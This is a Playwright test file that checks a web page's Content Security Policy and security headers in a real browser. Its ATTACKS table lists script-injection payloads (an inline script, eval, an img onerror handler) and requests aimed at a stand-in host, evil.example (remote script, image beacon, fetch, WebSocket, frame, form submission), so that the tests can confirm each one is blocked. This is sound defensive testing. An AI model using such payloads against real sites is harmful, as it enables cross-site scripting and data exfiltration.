"""The page's own policy, in a real browser: the page needs nothing that it forbids, and it forbids what it should."""

from __future__ import annotations

import random
from typing import Any

import pytest
from playwright.async_api import Browser, Page

from ..browser.conftest import NewContext
from ..browser.hands import Hands, action, choose_pace, open_page, start
from ..conftest import Site

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.violatedDirective}: ${event.blockedURI}`));
"""


async def test_the_page_breaks_its_own_policy_nowhere(embedded_site: Site, new_context: NewContext) -> None:
    context = await new_context()
    await context.add_init_script(WATCH)
    page = await open_page(context, embedded_site.origin)
    await choose_pace(page, "instant")
    for theme in ("ink", "contrast", "wood"):
        await page.locator(f"[data-theme={theme}][role=radio]").first.click()
    await action(page, "help").click()
    await page.locator(".help h3").first.wait_for()
    await action(page, "close-help").click()
    await action(page, "devices").click()
    await action(page, "invite").click()
    await page.locator(".qr path").wait_for()
    await page.keyboard.press("Escape")
    await start(page)
    hands = Hands(page, random.Random(2))
    for _ in range(6):
        await hands.step(await hands.settled())
    assert await page.evaluate("window.violations") == []


ATTACKS: dict[str, str] = {
    "an inline script": """() => { const script = document.createElement("script");
        script.append(document.createTextNode("window.attacked = true")); document.body.append(script); }""",
    "a handler in markup": """() => { document.body.setAttribute("onclick", "window.attacked = true");
        document.body.click(); }""",
    "eval": """() => { window.eval("window.attacked = true"); }""",
    "markup from text": """() => { document.body.insertAdjacentHTML("beforeend",
        "<img src=x onerror='window.attacked = true'>"); }""",
    "a script from elsewhere": """() => { const script = document.createElement("script");
        script.src = "https://evil.example/x.js"; document.body.append(script); }""",
    "a picture elsewhere that tells": """() => { new Image().src = "https://evil.example/?told"; }""",
    "a request elsewhere": """() => fetch("https://evil.example/").catch(() => {})""",
    "a socket elsewhere": """() => { new WebSocket("wss://evil.example/"); }""",
    "a frame": """() => { const frame = document.createElement("iframe");
        frame.src = "https://evil.example/"; document.body.append(frame); }""",
    "a style sheet in the page": """() => { const style = document.createElement("style");
        style.append(document.createTextNode("body { display: none }")); document.head.append(style); }""",
    "another base": """() => { const base = document.createElement("base");
        base.href = "https://evil.example/"; document.head.append(base); }""",
    "a form that is sent elsewhere": """() => { const form = document.createElement("form");
        form.action = "https://evil.example/"; document.body.append(form); form.submit(); }""",
}


@pytest.mark.parametrize("name", ATTACKS)
async def test_what_got_into_the_page_can_do_nothing(embedded_site: Site, browser: Browser, name: str) -> None:
    context = await browser.new_context(locale="zh-CN")
    await context.add_init_script(WATCH)
    let_go: list[str] = []
    context.on("requestfinished", lambda request: let_go.append(request.url))
    context.on("requestfailed", lambda request: let_go.append(request.url) if request.failure != "csp" else None)
    page = await open_page(context, embedded_site.origin)
    # By way of a timer of the page: what the tests' own hands do is above every policy.
    await _do(page, ATTACKS[name])
    await page.wait_for_function("() => window.violations.length > 0")
    assert await page.evaluate("window.attacked") is None
    assert not [url for url in let_go if "evil" in url]
    assert await page.locator("[data-phase=lobby]").is_visible()
    await context.close()


async def _do(page: Page, attack: str) -> Any:
    await page.evaluate(f"() => {{ setTimeout({attack}, 0); }}")


async def test_no_other_page_may_frame_it_or_keep_a_hold_on_it(embedded_site: Site, browser: Browser) -> None:
    context = await browser.new_context()
    page = await context.new_page()
    answer = await page.goto(embedded_site.origin)
    assert answer is not None
    headers = await answer.all_headers()
    assert "frame-ancestors 'none'" in headers["content-security-policy"]
    assert "unsafe" not in headers["content-security-policy"]
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert headers["cross-origin-resource-policy"] == "same-origin"
    assert headers["referrer-policy"] == "no-referrer"
    assert headers["x-content-type-options"] == "nosniff"
    await context.close()
